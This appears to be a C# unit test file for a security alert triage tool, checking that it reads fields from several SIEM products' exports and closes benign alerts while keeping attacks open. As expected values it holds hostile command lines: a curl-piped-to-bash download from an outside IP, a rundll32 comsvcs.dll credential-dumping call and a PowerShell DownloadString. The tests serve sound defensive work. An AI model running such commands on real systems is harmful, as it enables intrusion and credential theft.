using System.Text;
using Verdict.Analysis.Families;
using Verdict.Context;
using Verdict.Ingest;
using Verdict.Tests.Support;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// SIEM and platform exports as their documentation shapes them (tests/data/families/siem-products.jsonl): IBM QRadar
/// offenses, Google SecOps detections with their UDM events, Defender for Cloud alerts as Sentinel SecurityAlert rows,
/// Sumo Logic Cloud SIEM insights and Splunk ES notables with CIM fields. Each product's address, host, user and
/// command line are read from its own field names, each benign case closes for the reason those readings give, and each
/// attack stays open.
/// </summary>
public sealed class SiemProductTests(ITestOutputHelper output)
{
    private static readonly Dictionary<string, string> Reason = new()
    {
        ["pc-b1"] = "scanner", ["pc-b2"] = "scanner", ["pc-b3"] = "brute_force_failed", ["pc-b4"] = "scanner", ["pc-b5"] = "scanner",
        ["pc-a2"] = "download_and_execute", ["pc-a3"] = "download_and_execute", ["pc-a5"] = "credential_dumping",
    };

    [Fact]
    public void Each_benign_alert_closes_for_its_reason_and_each_attack_stays_open()
    {
        var fixtures = FamilyFixtures.Load("siem-products");
        Assert.Empty(FamilyFixtures.Misdecided(fixtures, FamilyFixtures.Triage(fixtures, FamilyFixtures.Context()), output, Reason));
    }

    [Fact]
    public void Each_product_names_its_address_host_user_and_command_line()
    {
        var fixtures = FamilyFixtures.Load("siem-products");
        var alerts = FamilyFixtures.Triage(fixtures, FamilyFixtures.Context()).ToDictionary(o => o.Alert!.Id, o => o.Alert!);

        // Defender for Cloud's extended properties, as JSON text in a SecurityAlert row.
        Assert.Equal(("45.141.84.120", "jump-01"), (alerts["pc-b3"].SourceIp, alerts["pc-b3"].Host));
        Assert.Equal(("www-data", "curl -s http://45.9.148.35/xm.sh | bash"), (alerts["pc-a3"].User, alerts["pc-a3"].CommandLine));
        // Sumo Logic's typed entity: an address, then a host name.
        Assert.Equal("10.50.0.10", alerts["pc-b4"].SourceIp);
        Assert.Equal(("ws-fin-014", null), (alerts["pc-a4"].Host, alerts["pc-a4"].SourceIp));
        // Splunk CIM: process is the full command string, process_name the program.
        Assert.StartsWith("rundll32.exe C:\\Windows\\System32\\comsvcs.dll", alerts["pc-a5"].CommandLine);
        Assert.Equal("rundll32.exe", alerts["pc-a5"].Process);
        // Google SecOps: the rule from detection[].ruleName, the UDM principal's address and the target's command line.
        Assert.Equal(("internal_port_sweep", "10.50.0.10"), (alerts["pc-b2"].Rule, alerts["pc-b2"].SourceIp));
        Assert.Contains("DownloadString", alerts["pc-a2"].CommandLine);
        // QRadar: the offense's first description line is the rule, a source-IP offense's source is the address.
        Assert.Equal(("Communication with Known Botnet Command and Control Server", "10.20.4.31"), (alerts["pc-a1"].Rule, alerts["pc-a1"].SourceIp));
    }

    [Fact]
    public void A_CIM_process_field_is_no_command_line_without_process_name_beside_it()
    {
        var record = """{"id":"s1","rule_name":"Suspicious process","process":"C:\\Windows\\System32\\rundll32.exe","dest":"ws-1"}""";
        var alert = JsonAlertReader.Read(new MemoryStream(Encoding.UTF8.GetBytes(record)), "s.json", EnvironmentContext.Default).Single().Value!;

        Assert.Equal("C:\\Windows\\System32\\rundll32.exe", alert.Process);
        Assert.Null(alert.CommandLine);
    }

    [Theory]
    [InlineData("""{"host":"collector01","message":"<13>Nov 18 09:15:00 qradar01 LEEF:2.0|IBM|QRadar|7.5|Port Scan|^|src=10.50.0.10^dst=10.30.2.17^usrName=svc-scan^sev=4"}""")]
    [InlineData("""{"host":"collector01","message":"LEEF:1.0|IBM|QRadar|7.5|Port Scan|src=10.50.0.10\tdst=10.30.2.17\tusrName=svc-scan\tsev=4"}""")]
    [InlineData("""{"host":"collector01","message":"LEEF:2.0|IBM|QRadar|7.5|Port Scan|x5E|src=10.50.0.10^dst=10.30.2.17^usrName=svc-scan^sev=4"}""")]
    public void A_LEEF_line_in_a_collectors_message_names_the_rule_addresses_and_user(string record)
    {
        var alert = JsonAlertReader.Read(new MemoryStream(Encoding.UTF8.GetBytes(record)), "leef.jsonl", EnvironmentContext.Default).Single().Value!;

        Assert.Equal(("Port Scan", "10.50.0.10", "10.30.2.17", "svc-scan"), (alert.Rule, alert.SourceIp, alert.Raw("dst"), alert.User));
        Assert.Null(alert.DetectorSeverity); // LEEF's sev runs 1-10 and is left unread rather than read on the wrong scale
    }
}
